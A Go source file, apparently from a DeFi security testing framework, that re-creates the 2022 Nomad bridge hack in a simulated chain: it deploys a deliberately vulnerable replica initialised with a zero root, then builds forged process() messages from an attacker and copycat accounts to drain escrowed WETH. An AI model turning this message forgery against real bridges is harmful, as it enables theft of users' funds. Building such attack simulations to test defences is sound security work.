package attack

import (
	"context"
	"encoding/binary"
	"fmt"
	"math/big"

	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/types"

	"github.com/aegis-defi/aegis/internal/chain"
)

// BridgeForgery re-creates the Nomad bridge hack of August 2022: an upgrade
// initialized the Replica with the zero root, which marked it confirmed;
// every never-proven message maps to the zero root, so any message passes
// `process`. After the first exploit, copycats replayed its calldata with
// their own address.
//
// Setup deploys WETH9 and VulnerableReplica or SafeReplica (the bridge
// escrow), runs the faulty initialize(0x00) upgrade on it, has four users
// lock 100 WETH each for the remote chain (400 WETH in escrow) and funds
// three copycat EOAs with gas money. The exploit is four process(message)
// transactions, each releasing 100 WETH: the attacker's forged message,
// then the copycats' copies with only the recipient changed.
//
// AttackerProfit is the attacker EOA's ETH+WETH change plus its exploit gas
// fees (copycats' gains are not included). ProtocolLoss is the escrow's WETH
// decrease, copycats included.
type BridgeForgery struct{}

// Parameters of the BridgeForgery scenario.
const (
	// bridgeLocalDomain and bridgeRemoteDomain are Nomad's ids for
	// Ethereum ("eth") and Moonbeam ("beam").
	bridgeLocalDomain  = 0x657468
	bridgeRemoteDomain = 0x6265616d
	bridgeUsers        = 4
	bridgeCopycats     = 3
	bridgeUserLock     = 100
	bridgeChunk        = 100
	bridgeOptimistic   = 30 * 60
)

// bridgeRemoteRouter is the trusted bridge router on the remote chain.
func bridgeRemoteRouter() common.Hash {
	return common.BytesToHash(chain.AccountFromSeed("aegis-nomad-remote-router").Address.Bytes())
}

// BridgeCopycat returns the i-th copycat account of the BridgeForgery
// scenario (deterministic, funded with gas money in Setup).
func BridgeCopycat(i int) chain.Account {
	return chain.AccountFromSeed(fmt.Sprintf("aegis-bridge-copycat-%d", i))
}

// Info implements Scenario.
func (BridgeForgery) Info() Info {
	return Info{
		Name:     "bridge-forgery",
		Class:    "bridge message forgery",
		Incident: "Nomad 2022",
		Summary:  "The attacker processes a never-proven bridge message releasing escrowed WETH to itself, accepted because the zero root was trusted; copycat EOAs replay the same calldata with their own address until the escrow is empty.",
	}
}

// Setup implements Scenario.
func (BridgeForgery) Setup(ctx context.Context, env *Env, v Variant) (Staged, error) {
	if err := requireUsers(env, bridgeUsers); err != nil {
		return nil, err
	}
	c, dep := env.Client, env.Deployer
	weth, err := deployWETH(ctx, c, dep)
	if err != nil {
		return nil, err
	}
	name := "VulnerableReplica"
	if v == Safe {
		name = "SafeReplica"
	}
	replica, err := deployNamed(ctx, c, dep, name, uint32(bridgeLocalDomain), uint32(bridgeRemoteDomain),
		bridgeRemoteRouter(), dep.Address, big.NewInt(bridgeOptimistic), env.Guardian.Address)
	if err != nil {
		return nil, err
	}
	// The faulty upgrade: the committed root passed to initialize is 0x00.
	if err := transact(ctx, replica, dep, nil, "upgrade initialize", "initialize", common.Hash{}); err != nil {
		return nil, err
	}
	users := env.Users[:bridgeUsers]
	if err := wrapAndApprove(ctx, weth, users, chain.Ether(bridgeUserLock), replica.Address); err != nil {
		return nil, fmt.Errorf("users prepare bridge transfer: %w", err)
	}
	for _, u := range users {
		to := common.BytesToHash(u.Address.Bytes())
		if err := transact(ctx, replica, u, nil, "lock for remote chain", "send", weth.Address, chain.Ether(bridgeUserLock), to); err != nil {
			return nil, err
		}
	}
	copycats := make([]chain.Account, bridgeCopycats)
	for i := range copycats {
		copycats[i] = BridgeCopycat(i + 1)
		if err := sendETH(ctx, c, dep, copycats[i].Address, chain.Ether(1)); err != nil {
			return nil, fmt.Errorf("fund copycat: %w", err)
		}
	}
	s := &bridgeStaged{
		client: c, attackerEOA: env.Attacker, copycats: copycats,
		replica: replica, replicaName: name, weth: weth,
	}
	if s.profit, err = newProfitMeter(ctx, c, weth, env.Attacker.Address); err != nil {
		return nil, err
	}
	if s.loss, err = newBalanceMeter(ctx, c, weth, replica.Address); err != nil {
		return nil, err
	}
	return s, nil
}

type bridgeStaged struct {
	client      *chain.Client
	attackerEOA chain.Account
	copycats    []chain.Account
	replica     *chain.Contract
	replicaName string
	weth        *chain.Contract
	profit      *profitMeter
	loss        *balanceMeter
	txs         []*types.Transaction
}

// Targets implements Staged.
func (s *bridgeStaged) Targets() []Target {
	return []Target{{Name: s.replicaName, Address: s.replica.Address, Pausable: true}}
}

// Exploit implements Staged: the attacker's forged message first, then one
// copy per copycat with the recipient swapped.
func (s *bridgeStaged) Exploit(ctx context.Context) ([]*types.Transaction, error) {
	senders := append([]chain.Account{s.attackerEOA}, s.copycats...)
	s.txs = nil
	for _, from := range senders {
		msg := bridgeMessage(0, s.weth.Address, from.Address, chain.Ether(bridgeChunk))
		tx, err := buildCall(ctx, s.client, from, s.replica, nil, "process", msg)
		if err != nil {
			return nil, fmt.Errorf("bridge forgery from %s: %w", from.Address, err)
		}
		s.txs = append(s.txs, tx)
	}
	return s.txs, nil
}

// Outcome implements Staged.
func (s *bridgeStaged) Outcome(ctx context.Context) (Outcome, error) {
	p, err := s.profit.profit(ctx, s.txs)
	if err != nil {
		return Outcome{}, fmt.Errorf("bridge profit: %w", err)
	}
	l, err := s.loss.loss(ctx)
	if err != nil {
		return Outcome{}, fmt.Errorf("bridge loss: %w", err)
	}
	return Outcome{AttackerProfit: p, ProtocolLoss: l}, nil
}

// escrow is the replica's WETH.
func (s *bridgeStaged) escrow(ctx context.Context) (*big.Int, error) {
	return s.weth.CallBig(ctx, "balanceOf", s.replica.Address)
}

// bridgeMessage encodes an inbound Nomad-style message from the remote
// router asking the local escrow to release amount of token to `to`:
// origin uint32 | sender bytes32 | nonce uint32 | destination uint32 |
// recipient bytes32 | abi.encode(token, to, amount).
func bridgeMessage(nonce uint32, token, to common.Address, amount *big.Int) []byte {
	var u32 [4]byte
	out := make([]byte, 0, 76+96)
	binary.BigEndian.PutUint32(u32[:], bridgeRemoteDomain)
	out = append(out, u32[:]...)
	out = append(out, bridgeRemoteRouter().Bytes()...)
	binary.BigEndian.PutUint32(u32[:], nonce)
	out = append(out, u32[:]...)
	binary.BigEndian.PutUint32(u32[:], bridgeLocalDomain)
	out = append(out, u32[:]...)
	// The recipient field names the local bridge router; the escrow does
	// not check it, as Nomad's handler routing did not protect funds either.
	out = append(out, make([]byte, 32)...)
	out = append(out, common.LeftPadBytes(token.Bytes(), 32)...)
	out = append(out, common.LeftPadBytes(to.Bytes(), 32)...)
	out = append(out, common.LeftPadBytes(amount.Bytes(), 32)...)
	return out
}
